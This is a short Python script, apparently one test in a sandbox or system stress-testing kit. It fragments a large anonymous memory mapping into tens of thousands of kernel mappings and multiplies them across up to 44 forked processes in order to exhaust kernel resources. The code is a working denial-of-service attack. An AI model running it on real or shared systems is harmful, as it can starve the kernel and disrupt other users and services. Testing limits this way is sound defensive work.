"""Divides memory into as many maps as there can be, in many processes: the kernel knows each."""

from __future__ import annotations

import ctypes
import mmap
import os
import signal
import time

from attack_kit import STAY_S, Attack, libc

PAGE = 4096
PAGES = 65_000
PROCESSES = 44
NO_RESERVE = 0x4000

children: list[int] = []


def fork() -> None:
    pid = os.fork()
    if pid == 0:
        time.sleep(STAY_S)
        os._exit(0)
    children.append(pid)


with Attack() as attack:
    libc.mmap.restype = ctypes.c_void_p
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NO_RESERVE
    start = libc.mmap(None, ctypes.c_size_t(PAGES * PAGE), mmap.PROT_READ, flags, -1, 0)
    for page in range(0, PAGES, 2):
        libc.mprotect(ctypes.c_void_p(start + page * PAGE), ctypes.c_size_t(PAGE), 0)
    with open("/proc/self/maps", "rb") as maps:
        thousands = sum(1 for _ in maps) // 1000
    attack.up_to(PROCESSES * thousands, "thousand maps", fork, each=thousands)
    attack.stay_if_too_many("thousand maps")
    for child in children:
        os.kill(child, signal.SIGKILL)
